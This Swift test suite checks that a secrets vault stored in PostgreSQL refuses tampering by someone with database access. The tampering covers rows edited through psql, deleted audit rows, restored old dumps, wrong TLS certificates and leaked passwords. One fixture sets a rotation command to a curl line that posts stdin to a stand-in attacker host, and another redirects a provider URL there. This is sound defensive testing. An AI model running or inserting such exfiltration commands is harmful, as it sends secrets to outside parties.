#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
import Foundation
import Testing
@testable import KeywardenCore
import KeywardenTestSupport

/// Attacks on a PostgreSQL vault by someone with the database (a superuser
/// with `psql`, a backup, the server's files) but neither keyfile nor
/// passphrase, and the invariants the backend keeps across hosts: one chain,
/// one active key per pool, refusals that change nothing, connections that
/// fail closed and never show a password. Each test has its own database on
/// the suite's throwaway server (scripts/test.sh); without one they are off.
@Suite("PostgreSQL: attacks with psql, invariants across hosts, connections", .enabled(if: PostgresTestDatabase.isAvailable))
struct PostgresStorageTests {
    // MARK: - Rows edited with psql

    @Test("a key's state, a provider's base URL and a rotation command edited with psql are refused on every host, naming the row")
    func rowsEditedWithPsql() throws {
        let f = try VaultFixture(backend: .postgres)
        let key = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        _ = try f.vault.updateProvider("anthropic", baseURL: "https://gateway.example.com", env: nil)
        _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(command: .some("./mint-key.sh")))
        let otherHost = try f.reopen()

        let edits: [(sql: String, names: String, read: (Vault) throws -> Void)] = [
            ("UPDATE keys SET state = 'revoked' WHERE id = '\(key.key.id)'", "key \(key.key.id) (anthropic/prod)", { _ = try $0.listKeys(KeyFilter()) }),
            ("UPDATE providers SET base_url = 'https://attacker.example' WHERE name = 'anthropic'", "provider 'anthropic'", { _ = try $0.provider(named: "anthropic") }),
            ("UPDATE rotation_policies SET command = 'curl -d @- https://attacker.example'", "rotation policy of anthropic/prod", { _ = try $0.rotationPolicies() }),
        ]
        for edit in edits {
            try f.postgres!.psql(edit.sql)
            for host in [f.vault, otherHost] {
                let error = #expect(throws: KeywardenError.self) { try edit.read(host) }
                #expect(error?.kind == .integrity)
                #expect(error?.exitCode == 4)
                #expect(error?.message.contains(edit.names) == true, "\(error?.message ?? "")")
                #expect(error?.message.contains("changed outside Keywarden") == true, "\(error?.message ?? "")")
            }
            // A fresh unlock checks the same rows.
            #expect(throws: KeywardenError.self) { try edit.read(try f.reopen()) }
        }
        // Nothing was sent or changed meanwhile: the edits are still what the attacker left.
        #expect(try f.postgres!.psql("SELECT state FROM keys") == "revoked")
    }

    // MARK: - Only ciphertext is stored

    @Test("the database holds only ciphertext: no value in any table as psql shows it, nor in the server's data files and WAL")
    func onlyCiphertext() throws {
        let f = try VaultFixture(backend: .postgres)
        // Values of this test alone, so that the server's shared WAL cannot hold them from another test.
        let key = "sk-ant-api03-" + Self.randomText(92) + "xAA"
        let config = "postgres://app:" + Self.randomText(24) + "@db.internal/app"
        let added = try f.vault.addKey(provider: "anthropic", scope: "prod", label: "main", env: nil, value: secret(key), activate: false, force: false)
        _ = try f.vault.setConfig(scope: "prod", name: "DATABASE_URL", value: secret(config), secret: true)
        _ = try f.vault.setConfig(scope: "prod", name: "PLAIN", value: secret("plain-" + Self.randomText(16)), secret: false)
        _ = try f.vault.revealKey(id: added.key.id)
        #expect(try f.vault.getConfig(scope: "prod", name: "DATABASE_URL").value.copyBytes() == Array(config.utf8))

        // Every table, as `psql` (or pg_dump) shows it to whoever can read the database.
        let dump = try f.storedBytes()
        #expect(dump.contains(bytes: Array(added.key.fingerprint.utf8)), "the dump holds the keys table")
        for value in [key, config] {
            for needle in [value, String(value.suffix(12))] {
                #expect(!f.stored(dump, contains: Array(needle.utf8)), "\(needle.prefix(6))… is in a table")
            }
        }

        // The server's own files: the database's pages and the WAL (readable when the tests run as root or as the server's user).
        try f.postgres!.psql("CHECKPOINT")
        let oid = try f.postgres!.psql("SELECT oid FROM pg_database WHERE datname = current_database()")
        let data = (ProcessInfo.processInfo.environment["KEYWARDEN_TEST_POSTGRES_DIR"] ?? "/nonexistent") + "/data"
        let files = (Self.files(in: data + "/base/" + oid) + Self.files(in: data + "/pg_wal")).compactMap { FileManager.default.contents(atPath: $0) }
        guard !files.isEmpty else { return }
        #expect(files.contains { Self.occurs(Array(added.key.fingerprint.utf8), in: $0) }, "the scan sees the keys table's rows")
        for value in [key, config] {
            for needle in [value, String(value.suffix(16))] {
                #expect(!files.contains { Self.occurs(Array(needle.utf8), in: $0) }, "\(needle.prefix(6))… is in the server's files")
            }
        }
    }

    // MARK: - Invariants in the schema

    @Test("one active key per pool: the partial unique index refuses a second, by psql or by hosts adding at once")
    func oneActiveKeyPerPool() throws {
        let f = try VaultFixture(backend: .postgres)
        let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: "a", env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        let b = try f.vault.addKey(provider: "anthropic", scope: "prod", label: "b", env: nil, value: secret(TestKeys.anthropic2), activate: false, force: false)
        #expect(a.key.state == .active)
        #expect(b.key.state == .standby)
        let error = #expect(throws: PostgresTestDatabase.Failed.self) { try f.postgres!.psql("UPDATE keys SET state = 'active' WHERE id = '\(b.key.id)'") }
        #expect(error?.description.contains("keys_one_active_per_pool") == true, "\(error?.description ?? "")")
        #expect(try f.postgres!.psql("SELECT COUNT(*) FROM keys WHERE state = 'active'") == "1")

        // Three hosts add the first key of a new pool at the same moment: one is active.
        let hosts = try (0..<3).map { _ in try f.reopen() }
        let values = ["aa1", "bb2", "cc3"].map { String(TestKeys.openai.dropLast(3)) + $0 }
        let results = Self.concurrently(3) { i in
            try hosts[i].addKey(provider: "openai", scope: "staging", label: "host\(i)", env: nil, value: secret(values[i]), activate: false, force: false).key.state
        }
        let states = try results.map { try $0.get() }
        #expect(states.filter { $0 == .active }.count == 1, "\(states)")
        #expect(states.filter { $0 == .standby }.count == 2, "\(states)")
        #expect(try f.vault.listKeys(KeyFilter(provider: "openai", scope: "staging")).filter { $0.state == .active }.count == 1)
        #expect(try f.vault.verifyAudit().ok)
    }

    @Test("audit events are append-only for psql too: UPDATE of a sealed event, DELETE and TRUNCATE fail")
    func auditAppendOnly() throws {
        let f = try VaultFixture(backend: .postgres)
        for name in ["a", "b"] { _ = try f.vault.addScope(name, parent: nil) }
        let before = try f.postgres!.psql("SELECT COUNT(*) || ':' || MAX(seq) || ':' || string_agg(hash, '' ORDER BY seq) FROM audit_events")
        #expect(try f.postgres!.psql("SELECT COUNT(*) FROM audit_events WHERE hash IS NULL") == "0", "every event is sealed")
        for statement in [
            "UPDATE audit_events SET detail = 'nothing to see' WHERE seq = 2",
            "UPDATE audit_events SET hash = repeat('ab', 32) WHERE seq = 2",
            "UPDATE audit_events SET recorded_locked = 1 - recorded_locked WHERE seq = 2",
            "UPDATE audit_events SET seq = seq + 100 WHERE seq = (SELECT MAX(seq) FROM audit_events)",
            "DELETE FROM audit_events WHERE seq = (SELECT MAX(seq) FROM audit_events)",
            "DELETE FROM audit_events",
            "TRUNCATE audit_events",
        ] {
            let error = #expect(throws: PostgresTestDatabase.Failed.self, "\(statement)") { try f.postgres!.psql(statement) }
            #expect(error?.description.contains("audit events are append-only") == true, "\(statement): \(error?.description ?? "")")
        }
        #expect(try f.postgres!.psql("SELECT COUNT(*) || ':' || MAX(seq) || ':' || string_agg(hash, '' ORDER BY seq) FROM audit_events") == before)
        let verification = try f.vault.verifyAudit()
        #expect(verification.ok)
        #expect(verification.checked == 3)
    }

    @Test("a vault written by a newer schema is refused (integrity, exit 4) and nothing is changed")
    func newerSchema() throws {
        let f = try VaultFixture(backend: .postgres)
        try f.postgres!.psql("INSERT INTO grdb_migrations (identifier) VALUES ('9999_from_the_future')")
        let before = try Self.snapshot(f.postgres!)
        let error = #expect(throws: KeywardenError.self) { try VaultAddress.postgres(DatabaseURL(f.postgres!.url)).open() }
        #expect(error?.kind == .integrity)
        #expect(error?.exitCode == 4)
        #expect(error?.message.contains("newer Keywarden") == true, "\(error?.message ?? "")")
        #expect(error?.message.contains("9999_from_the_future") == true)
        #expect(error?.message.contains("postgres://kwtest@127.0.0.1") == true, "names the database: \(error?.message ?? "")")
        #expect(try Self.snapshot(f.postgres!) == before)
    }

    @Test("init into a database that holds a vault, or other tables, is refused and changes nothing")
    func initRefused() throws {
        let f = try VaultFixture(backend: .postgres)
        let before = try Self.snapshot(f.postgres!)
        let newKeyfile = f.directory.file("second.key")
        let exists = #expect(throws: KeywardenError.self) {
            try Vault.create(in: f.address, slots: [.keyfile(path: newKeyfile)], scopes: ["dev"], context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        }
        #expect(exists?.kind == .conflict)
        #expect(exists?.message.contains("a vault already exists at \(f.address.shown)") == true, "\(exists?.message ?? "")")
        #expect(!FileManager.default.fileExists(atPath: newKeyfile), "no keyfile for a vault that was not made")
        #expect(try Self.snapshot(f.postgres!) == before)
        #expect(try f.reopen().verifyAudit().ok)

        let other = try PostgresTestDatabase()
        try other.psql("CREATE TABLE notes (id integer PRIMARY KEY, body text); INSERT INTO notes VALUES (1, 'keep me')")
        let otherBefore = try Self.snapshot(other)
        let foreign = #expect(throws: KeywardenError.self) {
            try Vault.create(in: .postgres(DatabaseURL(other.url)), slots: [.keyfile(path: newKeyfile)], scopes: ["dev"],
                             context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        }
        #expect(foreign?.kind == .invalidInput)
        #expect(foreign?.message.contains("already holds other tables (notes)") == true, "\(foreign?.message ?? "")")
        #expect(!FileManager.default.fileExists(atPath: newKeyfile))
        #expect(try Self.snapshot(other) == otherBefore)
        #expect(try other.psql("SELECT body FROM notes") == "keep me")

        // Opening either is refused too: no vault there.
        let notAVault = #expect(throws: KeywardenError.self) { try VaultAddress.postgres(DatabaseURL(other.url)).open() }
        #expect(notAVault?.kind == .notFound)
        #expect(notAVault?.message.contains("no vault at") == true, "\(notAVault?.message ?? "")")
        #expect(try Self.snapshot(other) == otherBefore)
    }

    @Test("three hosts initializing one empty database at once make one vault; the others are refused")
    func concurrentInit() throws {
        let database = try PostgresTestDatabase()
        let directory = TemporaryDirectory()
        let url = try DatabaseURL(database.url)
        let results = Self.concurrently(3) { i in
            let vault = try Vault.create(in: .postgres(url), slots: [.keyfile(path: directory.file("host\(i).key"))], scopes: ["dev"],
                                         context: VaultFixture.context(anchorDirectory: directory.file("state\(i)")))
            vault.postgres?.close()
            return i
        }
        let winners = results.compactMap { try? $0.get() }
        #expect(winners.count == 1, "\(results)")
        for case .failure(let error) in results {
            let error = try #require(error as? KeywardenError)
            // `init` makes the schema in one transaction under the
            // migration lock: the losers wait, then find the vault.
            #expect(error.kind == .conflict, "\(error.message)")
            #expect(error.message.contains("a vault already exists"), "\(error.message)")
        }
        let winner = try #require(winners.first)
        for i in 0..<3 where i != winner {
            #expect(!FileManager.default.fileExists(atPath: directory.file("host\(i).key")), "host \(i)'s keyfile was removed")
        }
        #expect(try database.psql("SELECT COUNT(*) FROM keyslots") == "1")
        let vault = try Vault.unlock(VaultAddress.postgres(url).open(), with: .keyfile(path: directory.file("host\(winner).key")),
                                     context: VaultFixture.context(anchorDirectory: directory.file("state\(winner)")))
        defer { vault.postgres?.close() }
        #expect(try vault.verifyAudit().ok)
        #expect(try vault.listScopes().map(\.name) == ["dev"])
    }

    // MARK: - Many hosts writing

    @Test("three hosts writing from six threads at once keep one audit chain, with every write counted")
    func concurrentHosts() throws {
        let f = try VaultFixture(backend: .postgres)
        // Each host opens and unlocks for itself and keeps its own anchor, as three machines would.
        let hosts = try (0..<3).map { i in
            try Vault.unlock(f.open(), with: .keyfile(path: f.keyfile), context: VaultFixture.context("host\(i)", anchorDirectory: f.directory.file("host\(i)")))
        }
        let eventsBefore = try f.vault.auditEvents(AuditFilter()).count
        let writesPerThread = 25
        let results = Self.concurrently(6) { thread in
            let host = hosts[thread % 3]
            for j in 0..<writesPerThread {
                if j % 2 == 0 {
                    try host.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "thread \(thread) write \(j)"))
                } else {
                    _ = try host.setConfig(scope: "dev", name: "T\(thread)_\(j)", value: secret("value \(thread) \(j)"), secret: j % 4 == 1)
                }
            }
            return thread
        }
        for result in results { _ = try result.get() }

        let events = try f.vault.auditEvents(AuditFilter())
        #expect(events.count == eventsBefore + 6 * writesPerThread)
        #expect(events.map(\.seq) == Array(1...Int64(events.count)), "one chain: no gap, no duplicate")
        #expect(events.filter { $0.action == "test.event" }.count == 6 * 13)
        #expect(try f.vault.listConfig(scope: "dev").count == 6 * 12)
        for host in hosts + [f.vault] {
            let verification = try host.verifyAudit()
            #expect(verification.ok, "\(verification.problem ?? "")")
            #expect(verification.checked == events.count)
        }
    }

    // MARK: - Failures leave nothing behind

    @Test("a write the database refuses halfway leaves nothing, and the pool's connections keep working")
    func failedWriteRollsBack() throws {
        let f = try VaultFixture(backend: .postgres)
        // The key's row is inserted before its audit event, which the database then refuses.
        try f.postgres!.psql("""
            CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'disk quota exceeded'; END $$;
            CREATE TRIGGER refuse BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION refuse();
            """)
        let before = try Self.snapshot(f.postgres!)
        for _ in 0..<6 {  // more attempts than the pool has connections
            let error = #expect(throws: KeywardenError.self) {
                try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
            }
            #expect(error?.message.contains("disk quota exceeded") == true, "\(error?.message ?? "")")
            #expect(error?.message.contains("nothing was changed") == true, "\(error?.message ?? "")")
        }
        #expect(try Self.snapshot(f.postgres!) == before)
        #expect(try f.postgres!.psql("SELECT COUNT(*) FROM keys") == "0")
        try f.postgres!.psql("DROP TRIGGER refuse ON audit_events")
        _ = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        #expect(try f.vault.listKeys(KeyFilter()).count == 1)
        #expect(try f.vault.verifyAudit().ok)
    }

    @Test("connections the server ends (an admin, a failover) are replaced: the next read and write succeed")
    func terminatedConnections() throws {
        let f = try VaultFixture(backend: .postgres)
        for i in 0..<3 { _ = try f.vault.addScope("s\(i)", parent: nil) }
        let ended = try f.postgres!.psql("SELECT COUNT(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()")
        #expect(Int(ended) ?? 0 >= 1, "the vault had pooled connections: \(ended)")
        usleep(100_000)
        #expect(try f.vault.listScopes().count == 6)
        _ = try f.vault.addScope("after", parent: nil)
        #expect(try f.vault.verifyAudit().ok)
    }

    @Test("an older copy of the database restored from pg_dump is detected by the anchor, naming the event")
    func restoredOlderDump() throws {
        let f = try VaultFixture(backend: .postgres)
        for i in 0..<2 { try f.vault.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "before \(i)")) }
        let copy = try PostgresTestDatabase()
        let restore = try CommandRunner.run("/bin/sh", ["-c", "pg_dump --no-owner -d \"$1\" | psql -X -q -v ON_ERROR_STOP=1 -d \"$2\"", "sh", f.postgres!.url, copy.url],
                                            environment: ProcessInfo.processInfo.environment, timeout: 60)
        try #require(restore.status == 0, "\(restore.err)")
        for i in 0..<3 { try f.vault.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "after \(i)")) }
        #expect(try f.vault.verifyAudit().ok)

        let restored = try Vault.unlock(VaultAddress.postgres(DatabaseURL(copy.url)).open(), with: .keyfile(path: f.keyfile),
                                        context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        defer { restored.postgres?.close() }
        let result = try restored.verifyAudit()
        #expect(!result.ok)
        #expect(result.problem?.contains("records event #") == true, "\(result.problem ?? "")")
        try restored.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "on the copy"))
        #expect(try !restored.verifyAudit().ok)
    }

    @Test("listings come out in SQLite's byte order whatever the database's collation")
    func byteOrder() throws {
        let f = try VaultFixture(backend: .postgres)
        guard try f.postgres!.psql("SELECT COUNT(*) FROM pg_collation WHERE collname = 'en-x-icu'") == "1" else { return }  // a server without ICU
        // What a database created with an ICU (or en_US) default collation has.
        try f.postgres!.psql("ALTER TABLE config_entries ALTER COLUMN name TYPE text COLLATE \"en-x-icu\"")
        #expect(try f.postgres!.psql("SELECT 'DB_URL' < 'DBX' COLLATE \"en-x-icu\"") == "t", "the collation orders otherwise than bytes")
        let names = ["DBX", "DB_URL", "AB", "A_B", "Ab", "a_b"]
        for name in names { _ = try f.vault.setConfig(scope: "dev", name: name, value: secret("v"), secret: false) }
        #expect(try f.vault.listConfig(scope: "dev").map(\.name) == names.sorted())
        #expect(try f.vault.listConfig(scope: nil).map(\.name) == names.sorted())
    }

    // MARK: - Connections: TLS, unreachable servers, passwords

    @Test("over TLS verified against the test CA the vault opens; against another CA it fails naming the server and TLS, and nothing is written")
    func tls() throws {
        let f = try VaultFixture(backend: .postgres)
        let tlsURL = try #require(f.postgres!.tlsURL)
        let overTLS = try Vault.unlock(VaultAddress.resolve(environment: ["KEYWARDEN_DATABASE_URL": tlsURL]).open(), with: .keyfile(path: f.keyfile),
                                       context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        defer { overTLS.postgres?.close() }
        _ = try overTLS.addScope("over-tls", parent: nil)
        #expect(try f.vault.listScopes().map(\.name).contains("over-tls"))
        #expect(overTLS.shownLocation.hasPrefix("postgres://kwtest@localhost:"))
        #expect(try f.postgres!.psql("SELECT bool_or(s.ssl) FROM pg_stat_ssl s JOIN pg_stat_activity a USING (pid) WHERE a.datname = current_database()") == "t")

        // A CA of its own, which did not sign the server's certificate.
        let dir = TemporaryDirectory()
        let made = try CommandRunner.run("/usr/bin/env", ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                                                          "-keyout", dir.file("other.key"), "-out", dir.file("other-ca.crt"), "-days", "1", "-subj", "/CN=Other Test CA"],
                                         environment: ProcessInfo.processInfo.environment, timeout: 60)
        try #require(made.status == 0, "\(made.err)")
        var components = try #require(URLComponents(string: tlsURL))
        components.queryItems = [URLQueryItem(name: "sslmode", value: "verify-full"), URLQueryItem(name: "sslrootcert", value: dir.file("other-ca.crt"))]
        let wrongCA = try DatabaseURL(try #require(components.string))
        let before = try Self.snapshot(f.postgres!)
        let error = #expect(throws: KeywardenError.self) { try VaultAddress.postgres(wrongCA).open() }
        #expect(error?.kind == .failed)
        #expect(error?.message.contains(wrongCA.server) == true, "\(error?.message ?? "")")
        #expect(error?.message.contains("TLS") == true, "\(error?.message ?? "")")
        #expect(try Self.snapshot(f.postgres!) == before)

        // Nor does `init` over it create anything.
        let empty = try PostgresTestDatabase()
        var emptyComponents = components
        emptyComponents.path = "/" + empty.name
        let keyfile = dir.file("new.key")
        let refused = #expect(throws: KeywardenError.self) {
            try Vault.create(in: .postgres(DatabaseURL(try #require(emptyComponents.string))), slots: [.keyfile(path: keyfile)], scopes: ["dev"],
                             context: VaultFixture.context(anchorDirectory: dir.file("state")))
        }
        #expect(refused?.message.contains("TLS") == true, "\(refused?.message ?? "")")
        #expect(try empty.psql("SELECT COUNT(*) FROM pg_tables WHERE schemaname = 'public'") == "0")
        #expect(!FileManager.default.fileExists(atPath: keyfile))
    }

    @Test("a password is never shown: not in errors, the shown location, or a refused --database")
    func passwordNeverShown() throws {
        let password = "Hunter2-" + Self.randomText(20)
        let port = try Self.closedPort()
        let text = "postgres://kwtest:\(password)@127.0.0.1:\(port)/vault"
        let address = try VaultAddress.resolve(environment: ["KEYWARDEN_DATABASE_URL": text])
        #expect(!address.shown.contains(password))
        #expect(address.shown == "postgres://kwtest@127.0.0.1:\(port)/vault")
        let error = #expect(throws: KeywardenError.self) { try address.open() }
        #expect(error?.message.contains(password) == false)
        #expect(error?.message.contains("127.0.0.1:\(port)") == true)

        // On a command line it is refused, and not repeated.
        let argv = #expect(throws: KeywardenError.self) { try VaultAddress.resolve(environment: [:], database: text) }
        #expect(argv?.kind == .invalidInput)
        #expect(argv?.message.contains(password) == false, "\(argv?.message ?? "")")
        #expect(argv?.message.contains("KEYWARDEN_DATABASE_PASSWORD") == true)
        // From KEYWARDEN_DATABASE_PASSWORD it is used and not shown either.
        let fromEnvironment = try VaultAddress.resolve(environment: ["KEYWARDEN_DATABASE_PASSWORD": password], database: "postgres://kwtest@127.0.0.1:\(port)/vault")
        #expect(!fromEnvironment.shown.contains(password))
        guard case .postgres(let parsed) = fromEnvironment else { Issue.record("not a PostgreSQL address"); return }
        #expect(parsed.password == password)
        // A URL that does not parse is shown without it.
        for bad in ["postgres://kwtest:\(password)@127.0.0.1/vault?sslmode=sometimes", "postgres://kwtest:\(password)@127.0.0.1:\(port)",
                    "mysql://kwtest:\(password)@db.example/vault"] {
            let error = #expect(throws: KeywardenError.self) { try VaultAddress.resolve(environment: ["KEYWARDEN_DATABASE_URL": bad]) }
            #expect(error?.kind == .invalidInput)
            #expect(error?.message.contains(password) == false, "\(error?.message ?? "")")
        }

        // A vault opened with a password in its URL (the test server trusts loopback and ignores it).
        let f = try VaultFixture(backend: .postgres)
        var components = try #require(URLComponents(string: f.postgres!.url))
        components.password = password
        let withPassword = try Vault.unlock(VaultAddress.resolve(environment: ["KEYWARDEN_DATABASE_URL": try #require(components.string)]).open(),
                                            with: .keyfile(path: f.keyfile), context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        defer { withPassword.postgres?.close() }
        #expect(!withPassword.shownLocation.contains(password))
        #expect(withPassword.shownLocation == f.address.shown)
        try f.postgres!.psql("ALTER TABLE scopes RENAME TO scopes_elsewhere")
        let failed = #expect(throws: KeywardenError.self) { try withPassword.listScopes() }
        #expect(failed?.message.contains(password) == false, "\(failed?.message ?? "")")
        #expect(failed?.message.contains("scopes") == true, "\(failed?.message ?? "")")
    }

    // MARK: - Helpers

    /// The tables and their row counts, the applied migrations and the vault's head: what "nothing changed" compares.
    static func snapshot(_ database: PostgresTestDatabase) throws -> String {
        let tables = try database.psql("SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename").split(separator: "\n")
        var lines = try tables.map { table in "\(table): " + (try database.psql("SELECT COUNT(*) || ' ' || md5(COALESCE(string_agg(t::text, '|' ORDER BY t::text), '')) FROM \(table) t")) }
        lines.append("functions: " + (try database.psql("SELECT COUNT(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace")))
        return lines.joined(separator: "\n")
    }

    /// Runs `body` on `count` threads of their own at once (not the test's
    /// cooperative pool, which has as many threads as cores).
    static func concurrently<T: Sendable>(_ count: Int, _ body: @escaping @Sendable (Int) throws -> T) -> [Result<T, any Error>] {
        let results = NSLock()
        nonisolated(unsafe) var collected = [Result<T, any Error>?](repeating: nil, count: count)
        let start = DispatchSemaphore(value: 0)
        let done = DispatchGroup()
        for i in 0..<count {
            done.enter()
            Thread {
                start.wait()
                let result = Result { try body(i) }
                results.withLock { collected[i] = result }
                done.leave()
            }.start()
        }
        for _ in 0..<count { start.signal() }
        done.wait()
        return results.withLock { collected.map { $0! } }
    }

    /// A loopback TCP port nothing listens on.
    static func closedPort() throws -> Int {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        try #require(fd >= 0)
        defer { close(fd) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) == 0 && getsockname(fd, $0, &length) == 0 }
        }
        try #require(bound)
        return Int(UInt16(bigEndian: address.sin_port))
    }

    static func randomText(_ count: Int) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
        return String((0..<count).map { _ in alphabet.randomElement()! })
    }

    static func files(in folder: String) -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: folder)) ?? []).map { folder + "/" + $0 }
    }

    static func occurs(_ needle: [UInt8], in haystack: Data) -> Bool {
        haystack.range(of: Data(needle)) != nil
    }
}

/// The database URL's parsing (bad URLs are refused naming what is wrong,
/// passwords are not shown) and a server that does not answer. No server needed.
@Suite("PostgreSQL: database URLs, unreachable servers")
struct DatabaseURLTests {
    @Test("bad URLs are invalid input naming what is wrong", arguments: [
        ("postgres://kwtest@127.0.0.1:5432", "names no database"),
        ("postgres://kwtest@127.0.0.1/", "names no database"),
        ("postgres://kwtest@db.example/a/b", "names no database"),
        ("postgres://db.example/vault", "names no user"),
        ("postgres://kwtest@db.example/vault?sslmde=require", "has an unknown parameter 'sslmde' (known: sslmode, sslrootcert, host, pool_size, password)"),
        ("postgres://kwtest@db.example/vault?sslmode=prefer", "has sslmode=prefer; use one of disable, require, verify-ca, verify-full"),
        ("postgres://kwtest@db.example/vault?sslmode", "has a parameter without a value: sslmode"),
        ("postgres://kwtest@db.example:0/vault", "has an invalid port"),
        ("postgres://kwtest@/vault?host=run/postgresql", "which is not a socket folder"),
        ("postgres://kwtest@/vault?host=/run/postgresql&sslmode=require", "asks for TLS over a Unix socket"),
        ("postgres://kwtest@db.example/vault?pool_size=0", "has pool_size=0; use 1 to 64"),
        ("postgres://kwtest@db.example/vault?pool_size=lots", "has pool_size=lots; use 1 to 64"),
        ("postgres://kwtest@db.example/vault?sslrootcert=/nonexistent/ca.pem", "names the CA file /nonexistent/ca.pem, which cannot be read"),
        ("mysql://kwtest@db.example/vault", "is not a postgres:// URL"),
        ("postgres://kwtest@db.example/vault?sslmode=verify-full&sslmode=disable&pool_size=2&x=1", "unknown parameter 'x'"),
    ])
    func badURLs(url: String, message: String) {
        let error = #expect(throws: KeywardenError.self) { try DatabaseURL(url) }
        #expect(error?.kind == .invalidInput)
        #expect(error?.exitCode == 2)
        #expect(error?.message.hasPrefix("the database URL ") == true, "\(error?.message ?? "")")
        #expect(error?.message.contains(message) == true, "\(error?.message ?? "")")
    }

    @Test("defaults: verify-full for a remote server, no TLS on loopback and sockets; the server as messages name it")
    func defaults() throws {
        let remote = try DatabaseURL("postgresql://app@db.example/vault")
        #expect(remote.sslMode == .verifyFull)
        #expect(remote.port == 5432)
        #expect(remote.poolSize == 4)
        #expect(remote.server == "db.example:5432")
        #expect(remote.redacted == "postgres://app@db.example:5432/vault")
        #expect(try DatabaseURL("postgres://app@127.0.0.1:6000/vault").sslMode == .disable)
        #expect(try DatabaseURL("postgres://app@localhost/vault").sslMode == .disable)
        let v6 = try DatabaseURL("postgres://app@[::1]:6000/vault")
        #expect(v6.host == "::1", "the address the connection dials, without brackets")
        #expect(v6.sslMode == .disable)
        #expect(v6.server == "[::1]:6000")
        #expect(v6.redacted == "postgres://app@[::1]:6000/vault")
        #expect(try DatabaseURL("postgres://app@[2001:db8::5]/vault").sslMode == .verifyFull)
        let socket = try DatabaseURL("postgres://app@/vault?host=/run/postgresql")
        #expect(socket.unixSocketPath == "/run/postgresql/.s.PGSQL.5432")
        #expect(socket.sslMode == .disable)
        #expect(socket.redacted == "postgres://app@/vault?host=/run/postgresql")
        let explicit = try DatabaseURL("postgres://app:pw@db.example:6543/vault?sslmode=require&pool_size=8")
        #expect(explicit.sslMode == .require)
        #expect(explicit.poolSize == 8)
        #expect(explicit.password == "pw")
        #expect(!explicit.redacted.contains("pw"))
        // Percent-encoded user, password and database are decoded.
        let encoded = try DatabaseURL("postgres://app%40corp:p%40ss%2Fw@db.example/my%20vault")
        #expect(encoded.user == "app@corp")
        #expect(encoded.password == "p@ss/w")
        #expect(encoded.database == "my vault")
        #expect(!encoded.redacted.contains("p@ss"))
    }

    @Test("a password in a parameter is used like the user info's, refused on a command line, and never repeated in an error")
    func passwordParameter() throws {
        let password = "Pa55-" + PostgresStorageTests.randomText(16)
        let url = try DatabaseURL("postgres://app@db.example/vault?password=\(password)")
        #expect(url.password == password)
        #expect(!url.redacted.contains(password))
        #expect(DatabaseURL.hasPassword("postgres://app@db.example/vault?sslmode=require&password=\(password)"))
        #expect(DatabaseURL.hasPassword("postgres://app:\(password)@db.example/vault"))
        #expect(!DatabaseURL.hasPassword("postgres://app@db.example/vault?sslmode=require"))
        let argv = #expect(throws: KeywardenError.self) { try VaultAddress.resolve(environment: [:], database: "postgres://app@db.example/vault?password=\(password)") }
        #expect(argv?.message.contains("carries a password") == true, "\(argv?.message ?? "")")
        #expect(argv?.message.contains(password) == false, "\(argv?.message ?? "")")
        // Errors about a URL that does not parse show no password, wherever it was.
        for text in ["postgres://app@db.example/vault?password=\(password)&sslmode=sometimes",
                     "postgres://app@db.example/vault?sslpassword=\(password)",
                     "postgres://app@db.example/vault?PASSWORD=\(password)&pool_size=0",
                     "postgres://app:\(password)@db.example/vault?password=\(password)&x=1",
                     "postgres://app:\(password)/x@db.example/vault"] {
            let error = #expect(throws: KeywardenError.self, "\(text)") { try DatabaseURL(text) }
            #expect(error?.kind == .invalidInput)
            #expect(error?.message.contains(password) == false, "\(error?.message ?? "")")
            #expect(DatabaseURL.hasPassword(text), "\(text)")
        }
        // An empty password is none: the environment's is used.
        #expect(try DatabaseURL("postgres://app:@db.example/vault", password: password).password == password)
        #expect(try DatabaseURL("postgres://app@db.example/vault?password=", password: password).password == password)
        #expect(try DatabaseURL("postgres://app@db.example/vault", password: "").password == nil)
    }

    @Test("a server that is not listening fails fast, naming it: cannot reach the vault database at 127.0.0.1:PORT")
    func unreachable() throws {
        let port = try PostgresStorageTests.closedPort()
        let url = try DatabaseURL("postgres://kwtest@127.0.0.1:\(port)/vault")
        let start = ContinuousClock.now
        let error = #expect(throws: KeywardenError.self) { try VaultAddress.postgres(url).open() }
        #expect(ContinuousClock.now - start < .seconds(3))
        #expect(error?.kind == .failed)
        #expect(error?.message.hasPrefix("cannot reach the vault database at 127.0.0.1:\(port)") == true, "\(error?.message ?? "")")
